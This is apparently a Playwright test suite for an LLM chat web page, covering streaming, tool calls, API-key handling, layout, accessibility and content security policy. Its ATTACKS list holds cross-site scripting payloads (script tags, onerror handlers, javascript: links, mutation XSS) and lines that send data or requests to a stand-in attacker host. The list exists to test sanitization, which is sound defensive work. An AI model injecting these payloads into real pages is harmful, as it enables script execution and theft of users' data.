"""The chat page in a real browser."""

from __future__ import annotations

import asyncio
import hashlib
import json
import re
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, expect

from orchestrator.api.chat_page import CONTENT_SECURITY_POLICY
from tests.support.live import Live, live
from tests.support.page import Watched, ask, opened
from tests.support.scripted_engine import ScriptedEngine, body, call_deltas, stream, text, whole

KEY = "a-long-secret-key"
REFUSED = "status of 401"


@pytest.fixture
async def page(server: Live) -> AsyncIterator[Page]:
    async with opened(server.url) as page:
        yield page


async def test_answer_streams_as_markdown(page: Page, engine: ScriptedEngine) -> None:
    go_on = asyncio.Event()
    engine.play(stream(*text("# Title\n\nSome **bo", "ld** te"), go_on, *text("xt\n\n- one\n- two")))
    await ask(page, "Write")
    answer = page.locator(".answer")
    await expect(answer.locator("strong")).to_have_text("bold")
    await expect(answer).to_have_attribute("aria-busy", "true")
    go_on.set()
    await expect(answer.locator("li")).to_have_text(["one", "two"])
    await expect(answer.locator("h1")).to_have_text("Title")
    await expect(answer).not_to_have_attribute("aria-busy", "true")
    await expect(answer.locator(".footer")).to_contain_text("10 tokens in, 5 out")
    await expect(answer.locator(".footer")).to_contain_text("first token after")


async def test_tool_call_is_shown_with_its_arguments_result_and_time(
    page: Page, engine: ScriptedEngine
) -> None:
    engine.play(
        stream(*call_deltas("calculate_math", '{"expression":"123 * 456"}'), finish="tool_calls"),
        stream(*text("It is 56088.")),
    )
    await page.get_by_role("button", name="Calculate 123 * 456").click()
    call = page.locator(".call")
    await expect(call.locator("summary")).to_contain_text("calculate_math")
    await expect(call.locator(".status")).to_have_text(re.compile(r"^[\d.]+ m?s$"))
    await call.locator("summary").click()
    await expect(call.locator("pre").first).to_contain_text('"expression": "123 * 456"')
    await expect(call.locator(".result")).to_contain_text("56088")
    await expect(page.locator(".answer .text")).to_have_text("It is 56088.")
    sent = {tool["function"]["name"] for tool in engine.requests[0].json["tools"]}
    assert sent == {"get_current_weather", "calculate_math", "query_database"}


async def test_only_chosen_tools_are_sent(page: Page, engine: ScriptedEngine) -> None:
    engine.play(stream(*text("ok")), stream(*text("ok")))
    await page.get_by_role("button", name="Details").click()
    await page.get_by_role("checkbox", name="query_database").uncheck()
    await page.get_by_role("checkbox", name="get_current_weather").uncheck()
    await ask(page, "Hi")
    await expect(page.locator(".answer .text")).to_have_text("ok")
    assert [tool["function"]["name"] for tool in engine.requests[0].json["tools"]] == ["calculate_math"]


async def test_conversation_goes_on_and_an_answer_can_be_retried(page: Page, engine: ScriptedEngine) -> None:
    engine.play(*(stream(*text(f"answer {number}")) for number in range(4)))
    await ask(page, "first")
    await expect(page.locator(".answer .text")).to_have_text(["answer 0"])
    await ask(page, "second")
    await expect(page.locator(".answer .text")).to_have_text(["answer 0", "answer 1"])
    await page.get_by_role("button", name="Retry").last.click()
    await expect(page.locator(".answer .text")).to_have_text(["answer 0", "answer 2"])
    await page.get_by_role("button", name="Retry").first.click()
    await expect(page.locator(".answer .text")).to_have_text(["answer 3"])
    said = [[message["content"] for message in request.json["messages"]] for request in engine.requests]
    conversation = ["first", "answer 0", "second"]
    assert said == [["first"], conversation, conversation, ["first"]]


@pytest.mark.parametrize("how", ["button", "Escape"])
async def test_stop_ends_the_request_and_keeps_the_text(page: Page, engine: ScriptedEngine, how: str) -> None:
    engine.play(stream(*text("half an ans"), asyncio.Event()))
    await ask(page, "Write")
    await expect(page.locator(".answer .text")).to_have_text("half an ans")
    if how == "button":
        await page.get_by_role("button", name="Stop").click()
    else:
        await page.keyboard.press("Escape")
    await expect(page.locator(".answer [role=alert]")).to_have_text("Stopped.")
    async with asyncio.timeout(10):
        await engine.aborted.wait()
    await expect(page.get_by_role("button", name="Send")).to_be_visible()


async def test_usage_and_limits_of_the_key_are_shown(engine: ScriptedEngine) -> None:
    engine.play(
        stream(*call_deltas("calculate_math", '{"expression":"1+1"}'), finish="tool_calls"),
        stream(*text("2")),
    )
    async with (
        live(engine.url, KEY_TOKENS_PER_DAY="2000000") as server,
        opened(server.url) as page,
    ):
        await page.get_by_role("button", name="Details").click()
        await ask(page, "1+1")
        await expect(page.locator(".answer .text")).to_have_text("2")
        used = page.get_by_role("region", name="Today").locator("tbody td")
        await expect(used).to_have_text(["-", "scripted", "1", "20", "10", "1"])
        await expect(page.locator("#usage")).to_contain_text("Used by everybody: this server since")
        limits = page.get_by_role("region", name="Limits of this key")
        await expect(limits).to_contain_text("tokens per day2,000,000")


async def test_admins_key_shows_everybodys_usage(engine: ScriptedEngine, tmp_path: Path) -> None:
    engine.play(whole("ok"), whole("ok"))
    keys: dict[str, Any] = {"ada": {"sha256": hashlib.sha256(KEY.encode()).hexdigest(), "admin": True}}
    keys["bob"] = {"sha256": hashlib.sha256(b"sk-bob").hexdigest()}
    file = tmp_path / "keys.json"
    file.write_text(json.dumps(keys))
    async with (
        live(engine.url, API_KEYS_FILE=str(file)) as server,
        opened(server.url, watched=Watched(expected=(REFUSED,))) as page,
    ):
        for key in (KEY, "sk-bob"):
            assert (await server.chat(headers={"authorization": f"Bearer {key}"})).status_code == 200
        await page.get_by_role("dialog", name="API key").get_by_label("Key", exact=True).fill(KEY)
        await page.keyboard.press("Enter")
        await page.get_by_role("button", name="Details").click()
        used = page.get_by_role("region", name="Today").locator("tbody td:first-child")
        await expect(used).to_have_text(["ada", "bob"])
        await expect(page.locator("#usage")).to_contain_text("Used by everybody: this server since")


async def test_new_chat_forgets_the_conversation(page: Page, engine: ScriptedEngine) -> None:
    engine.play(stream(*text("one"), asyncio.Event()), stream(*text("two")))
    await ask(page, "first")
    await expect(page.locator(".answer .text")).to_have_text("one")
    await page.get_by_role("button", name="New chat").click()
    await expect(page.locator(".message")).to_have_count(0)
    await ask(page, "second")
    await expect(page.locator(".answer .text")).to_have_text(["two"])
    assert [message["content"] for message in engine.requests[1].json["messages"]] == ["second"]


async def test_error_of_the_engine_is_shown(server: Live, engine: ScriptedEngine) -> None:
    engine.play(body({"error": {"message": "This model's maximum context length is 8 tokens"}}, 400))
    async with opened(server.url, watched=Watched(expected=("status of 400",))) as page:
        await ask(page, "Hi")
        await expect(page.locator(".answer [role=alert]")).to_contain_text("maximum context length is 8")


async def test_wrong_key_is_rejected_and_the_right_one_is_gone_with_the_tab(engine: ScriptedEngine) -> None:
    engine.play(stream(*text("welcome")))
    async with (
        live(engine.url, BOOTSTRAP_API_KEY=KEY) as server,
        opened(server.url, watched=Watched(expected=(REFUSED,))) as page,
    ):
        dialog = page.get_by_role("dialog", name="API key")
        await expect(dialog).to_be_visible()
        await dialog.get_by_label("Key", exact=True).fill("wrong")
        await dialog.get_by_role("button", name="Use this key").click()
        await expect(dialog.get_by_role("alert")).to_contain_text("key")
        await dialog.get_by_label("Key", exact=True).fill(KEY)
        await page.keyboard.press("Enter")
        await expect(dialog).to_be_hidden()
        await ask(page, "Hi")
        await expect(page.locator(".answer .text")).to_have_text("welcome")
        await page.get_by_role("button", name="Details").click()
        assert KEY not in await page.content()
        kept = await page.evaluate("JSON.stringify([{...localStorage}, document.cookie])")
        assert json.loads(kept) == [{}, ""]
        other = await page.context.new_page()
        await other.goto(server.url)
        await expect(other.get_by_role("dialog", name="API key")).to_be_visible()


async def test_request_is_shown_as_code_that_runs(page: Page, server: Live, engine: ScriptedEngine) -> None:
    engine.play(stream(*text("ok")))
    await page.get_by_role("button", name="Details").click()
    await ask(page, 'It\'s "quoted" \\ $HOME `x` ü')
    await expect(page.locator(".answer .text")).to_have_text("ok")
    shown = page.locator("#snippet")
    for language, begins in (("curl", "curl -N"), ("Python", "import os"), ("Node", "import OpenAI")):
        await page.get_by_role("tab", name=language).click()
        await expect(shown).to_contain_text(begins)
        await expect(shown).to_contain_text(f"{server.url}/v1")
    await page.get_by_role("tab", name="curl").focus()
    await page.keyboard.press("ArrowRight")
    python = await shown.inner_text()
    engine.play(stream(*text("from ", "Python")))
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-c", python, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    await page.get_by_role("tab", name="curl").click()
    curl = await shown.inner_text()
    out, problem = await process.communicate()
    assert out.decode() == "from Python", problem.decode()
    engine.play(stream(*text("from curl")))
    process = await asyncio.create_subprocess_exec(
        "sh", "-c", curl.replace("curl", "curl -s", 1), stdout=asyncio.subprocess.PIPE
    )
    out, _ = await process.communicate()
    assert "from curl" in out.decode()
    first, *others = (request.json["messages"] for request in engine.requests)
    assert others == [first, first]


ATTACKS = (
    "<script>window.acted = 1</script>",
    "<img src=x onerror='window.acted = 1'>",
    "![x](https://attacker.invalid/?data=secret)",
    "<svg/onload=window.acted=1>",
    "[click](javascript:window.acted=1)",
    "[click](data:text/html,<script>window.acted=1</script>)",
    "<iframe src='javascript:parent.acted=1'></iframe>",
    "<style>@import 'https://attacker.invalid/x.css';</style>",
    "<form action='https://attacker.invalid/'><button>Send</button></form>",
    "<a href='vbscript:x' onclick='window.acted=1'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=window.acted=1&gt;'>",
    "```html\n<script>window.acted = 1</script>\n```",
    "`<img src=x onerror=window.acted=1>`",
    "<details open ontoggle=window.acted=1>",
    "![x](x' onerror='window.acted=1)",
)


@pytest.mark.parametrize("where", ["answer", "reasoning", "tool result"])
async def test_text_of_the_model_and_of_tools_does_not_act(
    page: Page, engine: ScriptedEngine, where: str
) -> None:
    hostile = "\n\n".join(ATTACKS)
    if where == "tool result":
        arguments = json.dumps({"expression": hostile})
        engine.play(
            stream(*call_deltas("calculate_math", arguments), finish="tool_calls"), stream(*text("end"))
        )
    elif where == "reasoning":
        engine.play(stream({"reasoning": hostile}, *text("end")))
    else:
        engine.play(stream(*text(hostile, "\n\nend")))
    await ask(page, "Attack")
    await expect(page.locator(".answer .text")).to_contain_text("end")
    await expect(page.locator(".answer")).not_to_have_attribute("aria-busy", "true")
    for closed in await page.locator(".answer details").all():
        await closed.locator("summary").first.click()
    made = "script, img, iframe, style, form, svg, math, button:not(.actions button), [onerror], [onclick]"
    assert await page.locator(".answer").locator(made).count() == 0
    for link in await page.locator(".answer a").all():
        assert re.match(r"https?:|mailto:", await link.get_attribute("href") or "https:")
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert await page.evaluate("window.acted") is None


@pytest.mark.parametrize("size", [(360, 640), (820, 1180), (1400, 900)])
async def test_page_fits_its_window(server: Live, engine: ScriptedEngine, size: tuple[int, int]) -> None:
    engine.play(
        stream(*call_deltas("calculate_math", '{"expression":"' + "1+" * 80 + '1"}'), finish="tool_calls"),
        stream(
            *text("x" * 400, "\n\n| a | b |\n|-|-|\n|", "wide " * 60, "|2|\n\n```\n" + "y" * 300 + "\n```")
        ),
    )
    viewport = {"width": size[0], "height": size[1]}
    async with opened(server.url, viewport=viewport) as page:
        await ask(page, "Wide " + "w" * 300)
        await expect(page.locator(".footer")).to_contain_text("tokens in")
        if size[0] < 1120:
            await page.get_by_role("button", name="Details").click()
        assert await page.evaluate("document.documentElement.scrollWidth") <= size[0]
        await expect(page.get_by_role("button", name="Send")).to_be_in_viewport()


async def test_page_works_by_keyboard(page: Page, engine: ScriptedEngine) -> None:
    engine.play(stream(*text("typed")))
    await expect(page.get_by_label("Message")).to_be_focused()
    await page.keyboard.type("one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("two")
    await page.keyboard.press("Enter")
    await expect(page.locator(".answer .text")).to_have_text("typed")
    assert engine.requests[0].json["messages"][0]["content"] == "one\ntwo"
    reached = set()
    for _ in range(20):
        await page.keyboard.press("Tab")
        reached.add(await page.evaluate("document.activeElement.id || document.activeElement.textContent"))
    assert {"model", "new-chat", "panel-toggle", "API", "prompt", "send", "Retry"} <= reached


async def test_every_control_has_a_name(page: Page) -> None:
    await page.get_by_role("button", name="Details").click()
    tree = await page.locator("body").aria_snapshot()
    unnamed = re.findall(
        r"^\s*- (?:button|textbox|combobox|checkbox|tab|link)(?: \[.*\])?:?$", tree, re.MULTILINE
    )
    assert unnamed == [], tree
    for part in ('combobox "Model"', 'textbox "Message"', "log", 'tab "curl"', 'complementary "Details"'):
        assert part in tree, tree


async def test_page_has_a_strict_policy_and_can_be_switched_off(engine: ScriptedEngine, server: Live) -> None:
    answer = await server.http.get("/")
    assert answer.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert "unsafe" not in CONTENT_SECURITY_POLICY
    assert not re.search(r"<script(?![^>]*src=)|style=|\son\w+=", answer.text)
    async with live(engine.url, PAGES="false") as without:
        for path in ("/", "/page/page.js", "/docs", "/docs/swagger-ui.css"):
            assert (await without.http.get(path)).status_code == 404
